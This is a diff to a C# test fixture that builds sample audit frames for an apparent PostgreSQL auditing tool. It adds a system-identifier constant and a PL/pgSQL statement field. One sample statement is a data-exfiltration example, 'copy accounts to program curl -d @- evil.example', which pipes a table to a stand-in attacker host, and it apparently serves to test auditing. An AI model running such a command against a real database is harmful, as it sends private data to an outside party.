@@ -9,12 +9,15 @@ internal static class SampleFrames
 {
     public const long BackendStartUs = 1_795_889_206_123_456;
 
+    /// <summary>The system identifier of <see cref="SessionStarted(long, int, long, uint)"/>'s server.</summary>
+    public const ulong SystemIdentifier = 12_345_678_901_234_567_890UL;
+
     public static FrameHeader Header(
         long seq, long parent = 0, int depth = 0, uint user = 10, SecurityContext context = SecurityContext.None) =>
         new(seq, parent, depth, BackendStartUs + (seq * 17), user, user, context);
 
     public static SessionStarted SessionStarted(long seq = 1, int pid = 12345, long startUs = BackendStartUs, uint user = 16384) =>
-        new(Header(seq, user: user), 2, "0.2.0", 150007, 12_345_678_901_234_567_890UL, pid, startUs, 5, "app", user, "psql",
+        new(Header(seq, user: user), 2, "0.2.0", 150007, SystemIdentifier, pid, startUs, 5, "app", user, "psql",
             "client backend", LeaderPid: 0, WorkerType: "", HookMode: "user");
 
     public static RoleDescribed RoleDescribed(long seq, uint oid = 16384, string name = "alice") =>
@@ -43,7 +46,8 @@ internal static class SampleFrames
         new StatementStarted(Header(12), 8_123_456_789, "COPY", StatementKind.Utility, StatementContext.TopLevel,
             "copy accounts to program 'curl -d @- evil.example' -- é…", Prepared: new PreparedStatementReference("", 0),
             Portal: new PortalReference("c1", CachedPlan: true), Origin: "", Targets: [16601, 16602],
-            Copy: new CopyDetails(IsFrom: false, IsProgram: true, "curl -d @- evil.example")),
+            Copy: new CopyDetails(IsFrom: false, IsProgram: true, "curl -d @- evil.example"),
+            Plpgsql: new PlpgsqlStatement(4, "dynexecute")),
         new StatementFinished(Header(13), 12, FrameOutcome.Succeeded, "", 3),
         new RoleSwitched(Header(14), "SET ROLE", 16384, 16390, Local: true),
         new ObjectChanged(Header(15, parent: 12, depth: 1), "alter", 1259, 16601, 2, "table column", "public.accounts.note"),
@@ -154,7 +158,7 @@ internal static class SampleFrames
         FunctionDescribed f => f with { Config = null, Role = "", Extension = "" },
         RelationDescribed r => r with { RowSecurity = false, ForceRowSecurity = false, Code = null, Extension = "" },
         QueryAnalyzed q => q with { Relations = null, Aggregates = null, Domains = null, Text = "" },
-        StatementStarted s => s with { Prepared = null, Portal = null, Origin = "", Targets = null, Copy = null },
+        StatementStarted s => s with { Prepared = null, Portal = null, Origin = "", Targets = null, Copy = null, Plpgsql = null },
         FunctionEntered f => f with
         {
             EventTrigger = f.EventTrigger is { } e ? e with { Triggers = null } : null,
